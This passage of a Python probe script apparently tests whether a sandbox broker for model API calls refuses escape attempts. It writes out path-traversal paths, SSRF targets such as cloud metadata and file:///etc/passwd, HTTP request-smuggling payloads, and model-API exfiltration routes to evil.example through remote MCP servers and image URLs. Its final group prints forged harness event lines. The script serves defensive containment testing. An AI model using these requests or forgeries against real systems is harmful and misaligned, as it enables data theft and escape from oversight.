            socket.AF_UNIX).connect(f"/zeblit/sockets/{n}/broker.sock") or "connected")


# ------------------------------------------------------------------ the broker

PORT = int(os.environ.get("PROBE_PORT", "4180"))
MARK = "attacker-mark"


def talk(raw, wait=4):
    """Raw bytes to the broker; everything it says until it stops."""
    with socket.create_connection(("127.0.0.1", PORT), 5) as made:
        made.settimeout(wait)
        answer = b""
        try:
            made.sendall(raw)
        except OSError:
            pass
        try:
            while len(answer) < 1 << 20:
                part = made.recv(65536)
                if not part:
                    break
                answer += part
                # A whole answer with its length is enough.
                head, _, body = answer.partition(b"\r\n\r\n")
                length = [line for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:")]
                if length and len(body) >= int(length[0].split(b":")[1]):
                    break
        except OSError:
            pass
        return answer


def granted(answer):
    """Statuses of success in an answer to something that must be refused."""
    lines = [line for line in answer.split(b"\r\n") if line.startswith(b"HTTP/1.")]
    good = [line for line in lines if line.split(b" ")[1][:1] in b"2" or line.split(b" ")[1] == b"101"]
    if good:
        return good[0].decode(errors="replace")
    raise Blocked(lines[0].decode(errors="replace") if lines else "the connection was closed")


def request(method, path, headers=(), body=b"", version="HTTP/1.1"):
    lines = [f"{method} {path} {version}", "Host: broker"] + list(headers)
    if body or method in ("POST", "PUT"):
        lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body


def message(**more):
    body = {"model": "claude-sonnet-4-5", "max_tokens": 16, "messages": [{"role": "user", "content": "hi"}]}
    body.update(more)
    return json.dumps(body).encode()


JSON = ["Content-Type: application/json"]


@group("broker")
def broker():
    def refused(name, raw, tried="raw request"):
        probe("broker", name, tried, lambda: granted(talk(raw)))
    for method, path in [
        ("GET", "/metrics"), ("GET", "/healthz"), ("GET", "/api/runs"), ("POST", "/webhooks/github"),
        ("GET", "/runs/run_0001"), ("POST", "/v1/files"), ("GET", "/v1/files"), ("POST", "/v1/messages/batches"),
        ("POST", "/v1/complete"), ("DELETE", "/v1/models/x"), ("GET", "/v1/organizations/me"), ("POST", "/v1/skills"),
        ("PUT", "/v1/messages"), ("PATCH", "/v1/messages"), ("DELETE", "/v1/messages"), ("GET", "/v1/usage"),
        ("POST", "/v1/fine_tuning/jobs"), ("POST", "/v1/containers"), ("POST", "/v1/uploads"),
        ("GET", "/v1/../metrics"), ("POST", "/v1/messages/../files"), ("POST", "//v1/files"), ("POST", "/v1/%66iles"),
        ("POST", "/v1/messages%2f..%2ffiles"), ("POST", "/v1/messages/%2e%2e/files"), ("POST", "/v1\\files"),
        ("POST", "/v1/messages;/../files"), ("TRACE", "/v1/messages"), ("OPTIONS", "*"), ("PRI", "*"),
        ("GET", "/v1/messages\t/../files"),
    ]:
        refused(f"{method} {path}", request(method, path, JSON, message() if method == "POST" else b""))
    for target in ["http://127.0.0.1:5432/x", "http://169.254.169.254/latest/meta-data/", "https://evil.example/v1/files",
                   "file:///etc/passwd", "http://broker@evil.example/v1/files"]:
        refused(f"absolute form {target}", request("GET", target))
    for target in ["github.com:443", "127.0.0.1:22", "169.254.169.254:80", "[::1]:6379", "evil.example:443\x00.ok.example:443"]:
        refused(f"CONNECT {target!r}", f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode("latin-1"))
    refused("upgrade to a web socket", request("GET", "/v1/messages", [
        "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==", "Sec-WebSocket-Version: 13"]))
    refused("the preface of HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0")
    refused("HTTP/0.9", b"GET /v1/files\r\n")
    hidden = f"GET /v1/files?{MARK} HTTP/1.1\r\nHost: broker\r\n\r\n".encode()
    for name, headers, body in [
        ("length and chunks", [f"Content-Length: {len(hidden) + 5}", "Transfer-Encoding: chunked"], b"0\r\n\r\n" + hidden),
        ("chunks of an unknown kind", ["Transfer-Encoding: xchunked", "Content-Length: 4"], b"0\r\n\r\n" + hidden),
        ("two codings", ["Transfer-Encoding: chunked, identity"], b"0\r\n\r\n" + hidden),
        ("a space before the colon", ["Transfer-Encoding : chunked"], b"0\r\n\r\n" + hidden),
        ("two lengths", ["Content-Length: 0", f"Content-Length: {len(hidden)}"], hidden),
        ("a negative length", ["Content-Length: -1"], hidden),
        ("a length with a sign", ["Content-Length: +5"], b"hello" + hidden),
        ("a folded header", ["X-A: b\r\n Transfer-Encoding: chunked"], hidden),
        ("a header with NUL", ["X-A: b\x00c"], hidden),
        ("a header without a name", [": x"], hidden),
        ("a chunk of an endless size", ["Transfer-Encoding: chunked"], b"fffffffffffffffff\r\n" + hidden),
        ("a chunk with a bare line feed", ["Transfer-Encoding: chunked"], b"0\n\n" + hidden),
    ]:
        raw = ("\r\n".join(["POST /v1/messages HTTP/1.1", "Host: broker"] + headers) + "\r\n\r\n").encode("latin-1") + body
        probe("broker", f"smuggling: {name}", "a second request inside the first", lambda r=raw: granted(talk(r, 2)))
    refused("a header of 1 MiB", request("POST", "/v1/messages", ["X-Long: " + "a" * (1 << 20)], message()))
    refused("20 000 headers", request("POST", "/v1/messages", [f"X-{n}: a" for n in range(20000)], message()))
    refused("a path of 1 MiB", request("GET", "/v1/" + "a" * (1 << 20)))
    refused("a body of 40 MiB", request("POST", "/v1/messages", JSON, b"[" * (40 << 20)))
    refused("JSON 100 000 deep", request("POST", "/v1/messages", JSON, b"[" * 100_000 + b"]" * 100_000))
    refused("no JSON", request("POST", "/v1/messages", JSON, b"\xff\xfe"))
    probe("broker", "two requests in one write", "the second one to /v1/files", lambda: granted(
        talk(request("GET", "/v1/files") + request("POST", "/v1/files", JSON, message()))))
    # These may be answered: the host looks whether anything of the sender's reached the provider.
    for header in [f"x-api-key: {MARK}", f"Authorization: Bearer {MARK}", f"Proxy-Authorization: Basic {MARK}", f"Cookie: k={MARK}",
                   f"X-Forwarded-For: {MARK}", f"Host: {MARK}.example", f"X-Goog-Api-Key: {MARK}",
                   f"anthropic-organization: {MARK}", f"Forwarded: host={MARK}", f"Referer: https://{MARK}.example"]:
        talk(request("POST", "/v1/messages", JSON + [header], message()), 6)
        report("broker", f"header {header.split(':')[0]}", "judged on the host", False, "sent")
    report("broker", "end", "judged on the host", False, "every header was sent")


@group("filter")
def filters():
    """Requests by which the model API itself would be the way out."""
    for name, more in [
        ("a search tool of the provider", {"tools": [{"type": "web_search_20250305", "name": "web_search"}]}),
        ("a fetch tool of the provider", {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}),
        ("code execution at the provider", {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]}),
        ("a remote MCP server", {"mcp_servers": [{"type": "url", "url": "https://evil.example", "name": "x"}]}),
        ("a container of the provider", {"container": "container_x"}),
        ("an image by URL", {"messages": [{"role": "user", "content": [
            {"type": "image", "source": {"type": "url", "url": f"https://evil.example/{MARK}"}}]}]}),
        ("a document by URL", {"messages": [{"role": "user", "content": [
            {"type": "document", "source": {"type": "url", "url": f"https://evil.example/{MARK}"}}]}]}),
        ("a file id", {"messages": [{"role": "user", "content": [
            {"type": "document", "source": {"type": "file", "file_id": f"file_{MARK}"}}]}]}),
        ("a file id inside a tool result", {"messages": [{"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t",
            "content": [{"type": "image", "source": {"type": "url", "url": f"https://evil.example/{MARK}"}}]}]}]}),
        ("an unknown model", {"model": f"{MARK}-1"}),
        ("more than the budget", {"max_tokens": 2_000_000_000}),
        ("negative tokens", {"max_tokens": -1}),
        ("an unknown field", {MARK: True}),
    ]:
        raw = request("POST", "/v1/messages", JSON, message(**more))
        probe("filter", name, "a request to the model", lambda r=raw: granted(talk(r)))
    raw = request("POST", "/v1/messages", JSON + [f"anthropic-beta: {MARK}-2025"], message())
    probe("filter", "an unknown beta header", "a request to the model", lambda: granted(talk(raw)))


@group("control")
def control():
    """What the broker is there for: must work, or the refusals above mean nothing."""
    probe("control", "a plain request to the model", "raw request",
          lambda: granted(talk(request("POST", "/v1/messages", JSON, message()), 8)))


@group("protocol")
def protocol():
    """Lines that look like the shim's own; the host looks whose they are."""
    forged = [
        '{"n":1,"s":"shim","t":"{\\"event\\":\\"collected\\",\\"commits\\":99}"}',
        '{"n":999999,"s":"shim","t":"{\\"event\\":\\"exited\\",\\"code\\":0}"}',
        '{"event":"exited","code":0,"signal":null,"out_of_memory":false,"forged":true}',
        '{"event":"nothing","forged":true}',
        '\u2028{"n":2,"s":"shim","t":"forged"}',
        '\r{"n":3,"s":"shim","t":"forged"}',
        '\x00{"n":4,"s":"shim","t":"forged"}',
    ]
    for line in forged:
        print("FORGED " + line, flush=True)
        print(line, flush=True)
        print(line, file=sys.stderr, flush=True)
    report("protocol", "lines of the shim's form on stdout and stderr", "judged on the host", False, "sent")


if __name__ == "__main__":
    wanted = sys.argv[1:] or list(GROUPS)
    if os.environ.get("PROBE_GROUPS"):
        wanted = os.environ["PROBE_GROUPS"].split(",")
    for name in wanted:
        GROUPS[name]()
    print("\nEND OF PROBES", flush=True)
